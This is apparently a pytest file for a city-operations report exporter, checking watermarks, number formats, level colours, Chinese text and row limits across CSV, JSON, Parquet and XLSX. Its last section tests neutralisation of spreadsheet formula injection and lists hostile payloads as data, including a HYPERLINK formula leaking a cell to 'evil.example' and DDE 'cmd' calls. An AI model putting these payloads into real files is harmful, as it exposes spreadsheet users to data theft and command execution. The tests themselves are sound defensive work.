"""Export files opened with the readers people use (pandas, openpyxl, pyarrow): the same rows, the
watermark in each format, real number formats and level colours, Chinese text, row limits, and
text that would be a formula in a spreadsheet shown as text."""

from __future__ import annotations

import io
import json
import math
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from indicators.levels import LEVEL_COLOURS
from reports.exports import (
    PARQUET_ROW_GROUP,
    WATERMARK_KEY,
    ExportTable,
    TooManyRows,
    Watermark,
    spreadsheet_text,
    write_export,
)

SHANGHAI = ZoneInfo("Asia/Shanghai")
MARK = Watermark(user="analyst", at=datetime(2025, 6, 3, 9, 30, tzinfo=SHANGHAI),
                 spec={"from": "2025-06-01T00:00:00+00:00", "to": "2025-06-02T00:00:00+00:00", "zone": "Asia/Shanghai"})


def trend(rows: int = 4, start: int = 0) -> pd.DataFrame:
    return pd.DataFrame({
        "unit": [f"U{n % 3}" for n in range(start, start + rows)],
        "unit_name": ["黄浦区" if n % 2 else "Pudong" for n in range(start, start + rows)],
        "bucket": pd.date_range("2025-06-01", periods=rows, freq="h", tz=SHANGHAI) + pd.Timedelta(hours=start),
        "score_mean": [55.5 + n for n in range(start, start + rows)],
        "worst_level": pd.array([n % 3 if n % 4 != 3 else None for n in range(start, start + rows)], dtype="Int64"),
        "worst_colour": [("green", "amber", "red")[n % 3] if n % 4 != 3 else "grey"
                         for n in range(start, start + rows)],
        "hours_amber": [0.25] * rows,
        "share_amber_red": [0.5] * rows,
        "samples": [12] * rows,
    })


def export(fmt: str, tables: list[ExportTable]) -> tuple[bytes, dict[str, int]]:
    out = io.BytesIO()
    counts = write_export(fmt, out, tables, MARK)
    return out.getvalue(), counts


def test_csv_has_a_bom_a_watermark_comment_and_every_chunk_under_one_header() -> None:
    data, counts = export("csv", [ExportTable("trend", [trend(3), trend(0).iloc[0:0], trend(2, start=3)])])
    assert data.startswith("\ufeff# cityops export by analyst at 2025-06-03T09:30:00+08:00".encode())
    assert counts == {"trend": 5}
    frame = pd.read_csv(io.BytesIO(data), skiprows=1, encoding="utf-8-sig")
    assert len(frame) == 5 and list(frame.columns) == list(trend().columns)
    assert frame["unit_name"].iloc[1] == "黄浦区"
    assert frame["bucket"].iloc[0] == "2025-06-01T00:00:00+08:00"
    assert pd.isna(frame["worst_level"].iloc[3]) and frame["score_mean"].tolist() == [55.5 + n for n in range(5)]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet", "xlsx"])
def test_exported_values_keep_the_decimals_the_measurement_supports(fmt: str) -> None:
    frame = pd.DataFrame({"unit": ["U1"], "score_mean": [95.20054670831935], "hours_amber": [1.2345678],
                          "share_amber_red": [0.95347], "ack_median_min": [12.3456], "lon": [-73.98765432],
                          "samples": [12]})
    data, _ = export(fmt, [ExportTable("trend", [frame])])
    text = data.decode("utf-8", "replace") if fmt in ("csv", "json") else ""
    if fmt in ("csv", "json"):
        assert "95.20054670831935" not in text and "1.2345678" not in text
        for shown in ("95.2", "1.23", "0.953", "12.3", "-73.98765432"):
            assert shown in text, shown
    elif fmt == "parquet":
        row = pq.read_table(io.BytesIO(data)).to_pandas().iloc[0]
        assert (row["score_mean"], row["hours_amber"], row["share_amber_red"], row["lon"]) == (
            95.2, 1.23, 0.953, -73.98765432)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["trend"]
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert values[2][1:4] == [95.2, 1.23, 0.953]


def test_an_empty_table_still_has_its_header() -> None:
    data, counts = export("csv", [ExportTable("trend", [], columns=("unit", "score_mean"))])
    assert data.decode("utf-8-sig").splitlines()[1] == "unit,score_mean" and counts == {"trend": 0}


def test_xlsx_has_a_sheet_per_table_watermark_frozen_header_number_formats_and_level_colours() -> None:
    ranking = pd.DataFrame({"unit": ["A", "B"], "index_mean": [82.0, 35.0], "level": pd.array([0, 2], dtype="Int64")})
    data, counts = export("xlsx", [ExportTable("trend", [trend(4)]),
                                   ExportTable("ranking", lambda: [ranking], colour_scores=True)])
    assert counts == {"trend": 4, "ranking": 2}
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["trend", "ranking"]
    sheet = book["trend"]
    assert sheet["A1"].value.startswith("cityops export by analyst at 2025-06-03T09:30")
    assert [cell.value for cell in sheet[2]] == list(trend().columns)
    assert sheet.freeze_panes == "A3"
    row = {name: cell for name, cell in zip(trend().columns, sheet[4], strict=True)}  # the second data row
    assert row["score_mean"].value == 56.5 and row["score_mean"].number_format == "0.0"
    assert row["share_amber_red"].number_format == "0.0%" and row["hours_amber"].number_format == "0.00"
    assert row["bucket"].value == datetime(2025, 6, 1, 1) and row["bucket"].number_format == "yyyy-mm-dd hh:mm"  # noqa: DTZ001
    assert row["worst_level"].value == 1
    assert row["worst_level"].fill.start_color.rgb.endswith(LEVEL_COLOURS[1].lstrip("#").upper())
    assert row["worst_colour"].fill.start_color.rgb.endswith(LEVEL_COLOURS[1].lstrip("#").upper())
    grey = {name: cell for name, cell in zip(trend().columns, sheet[6], strict=True)}
    assert grey["worst_level"].value is None
    assert grey["worst_colour"].fill.start_color.rgb.endswith(LEVEL_COLOURS[None].lstrip("#").upper())
    assert sheet["B4"].value == "黄浦区"
    ranked = book["ranking"]
    assert ranked["A1"].value.startswith("cityops export by analyst")
    assert ranked["B4"].value == 35.0 and ranked["B4"].fill.start_color.rgb.endswith("C62828")  # red band


def test_xlsx_refuses_a_table_beyond_excels_rows_before_writing_anything() -> None:
    out = io.BytesIO()
    pulled = []
    table = ExportTable("trend", lambda: pulled.append(1) or [trend()], rows=1_048_575)
    with pytest.raises(TooManyRows, match="more than an Excel sheet holds .*CSV or Parquet"):
        write_export("xlsx", out, [ExportTable("method", [trend()]), table], MARK)
    assert out.getvalue() == b"" and pulled == []


def test_parquet_has_the_watermark_metadata_zoned_times_and_row_groups() -> None:
    chunks = [trend(100_000, start=n * 100_000) for n in range(4)]
    data, counts = export("parquet", [ExportTable("trend", chunks)])
    assert counts == {"trend": 400_000}
    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.metadata.num_rows == 400_000
    assert parquet.metadata.num_row_groups == -(-400_000 // PARQUET_ROW_GROUP)
    mark = json.loads(parquet.schema_arrow.metadata[WATERMARK_KEY.encode()])
    assert mark["user"] == "analyst" and mark["spec"]["zone"] == "Asia/Shanghai"
    frame = parquet.read().to_pandas()
    assert str(frame["bucket"].dt.tz) == "Asia/Shanghai"
    pd.testing.assert_series_equal(frame["score_mean"], pd.concat(chunks, ignore_index=True)["score_mean"])
    assert frame["worst_level"].isna().sum() == 100_000


def test_parquet_keeps_types_when_a_first_chunk_has_only_missing_values() -> None:
    first = trend(2).assign(unit_name=None, worst_level=pd.array([None, None], dtype="Int64"))
    data, _ = export("parquet", [ExportTable("trend", [first, trend(2, start=2)])])
    frame = pq.read_table(io.BytesIO(data)).to_pandas()
    assert frame["unit_name"].tolist()[2:] == ["Pudong", "黄浦区"]


def test_json_is_one_document_with_watermark_columns_and_rows() -> None:
    data, _ = export("json", [ExportTable("trend", [trend(3), trend(2, start=3)])])
    body = json.loads(data)
    assert body["watermark"]["user"] == "analyst" and body["table"] == "trend" and body["row_count"] == 5
    assert body["rows"][1]["unit_name"] == "黄浦区" and body["rows"][3]["worst_level"] is None
    assert body["rows"][0]["bucket"] == "2025-06-01T00:00:00+08:00"


def test_one_table_formats_refuse_several_and_unknown_formats_are_named() -> None:
    with pytest.raises(ValueError, match="one table"):
        export("csv", [ExportTable("a", [trend()]), ExportTable("b", [trend()])])
    with pytest.raises(ValueError, match="unknown export format 'docx'"):
        export("docx", [ExportTable("a", [trend()])])


def test_the_watermark_line_is_one_line_whatever_the_name_holds() -> None:
    line = Watermark(user="eve\nforged line", at=datetime(2025, 1, 1, tzinfo=UTC)).line()
    assert "\n" not in line and line.startswith("cityops export by eve forged line at 2025-01-01T00:00:00+00:00")


# -- formula injection (OWASP "CSV injection") -------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_leading_quote(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Smoke on 34th Street", "黄浦区 外滩 积水", "a=b+c", "1-2", "2025-06-01", "#N/A", "",
                                   "'=already quoted", "x" * 200, "烟" * 200])
def test_other_text_is_left_as_it_is(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_a_long_title_starting_with_a_formula_keeps_every_character() -> None:
    title = "=" + "烟" * 199
    assert spreadsheet_text(title) == "'" + title and len(spreadsheet_text(title)) == 201


@pytest.mark.parametrize("value", [None, -2, -2.5, 0, float("nan"), pd.NA, True, datetime(2025, 1, 1, tzinfo=UTC)])
def test_numbers_and_missing_values_are_never_touched(value: object) -> None:
    assert spreadsheet_text(value) is value


def incidents(titles: list[object]) -> pd.DataFrame:
    return pd.DataFrame({"id": [str(n) for n in range(len(titles))], "title": titles,
                         "district": ["-MN0502"] * len(titles), "lon": [-73.98] * len(titles),
                         "events_count": [-1] * len(titles)})


def test_csv_cells_that_would_be_formulas_start_with_a_quote_and_numbers_stay_numbers() -> None:
    titles = [*HOSTILE, "Smoke", None]
    data, _ = export("csv", [ExportTable("incidents", [incidents(titles)])])
    frame = pd.read_csv(io.BytesIO(data), skiprows=1, encoding="utf-8-sig", keep_default_na=False, na_values=[""])
    assert frame["title"].tolist()[:-1] == ["'" + title for title in HOSTILE] + ["Smoke"]
    assert math.isnan(frame["title"].iloc[-1])  # missing stays missing, not "'"
    assert set(frame["district"]) == {"'-MN0502"}  # every text column, not only titles
    assert frame["lon"].tolist() == [-73.98] * len(titles) and frame["events_count"].tolist() == [-1] * len(titles)
    lines = data.decode("utf-8-sig").split("\r\n")  # CRLF (RFC 4180); read as a spreadsheet splits rows
    assert all(not line.split(",", 1)[-1].startswith(("=", "+", "-", "@")) for line in lines[2:] if line)


def test_a_carriage_return_inside_a_csv_cell_cannot_start_a_row_with_a_formula() -> None:
    data, _ = export("csv", [ExportTable("incidents", [incidents(["fire\r@SUM(1+1)*cmd|' /C calc'!A0"])])])
    # Spreadsheets break rows at a bare CR too: the cell must be quoted so the CR stays inside it.
    assert b'"fire\r@SUM(1+1)*cmd|\' /C calc\'!A0"' in data
    frame = pd.read_csv(io.BytesIO(data), skiprows=1, encoding="utf-8-sig")
    assert frame["title"].tolist() == ["fire\r@SUM(1+1)*cmd|' /C calc'!A0"] and len(frame) == 1


def test_xlsx_holds_no_formula_text_cells_are_strings_and_numbers_numbers() -> None:
    titles = [*HOSTILE, "#N/A", "bell\x07 rings", "Smoke", None]
    data, _ = export("xlsx", [ExportTable("incidents", [incidents(titles)])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = openpyxl.load_workbook(io.BytesIO(data))["incidents"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    header = [cell.value for cell in sheet[2]]
    shown = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=3)]
    expected = ["'" + title.replace("\r", "\n") for title in HOSTILE]  # XML reads a bare CR as a line feed
    assert [row["title"].value for row in shown[:len(HOSTILE)]] == expected
    assert all(row["title"].data_type == "s" for row in shown[:-1])
    assert [row["title"].value for row in shown[len(HOSTILE):]] == ["#N/A", "bell\ufffd rings", "Smoke", None]
    assert {row["lon"].value for row in shown} == {-73.98} and {row["lon"].data_type for row in shown} == {"n"}
    assert {row["events_count"].value for row in shown} == {-1}


def test_parquet_and_json_keep_titles_exactly_as_stored() -> None:
    frame = incidents(HOSTILE)
    data, _ = export("parquet", [ExportTable("incidents", [frame])])
    assert pq.read_table(io.BytesIO(data)).to_pandas()["title"].tolist() == HOSTILE
    data, _ = export("json", [ExportTable("incidents", [frame])])
    assert [row["title"] for row in json.loads(data)["rows"]] == HOSTILE
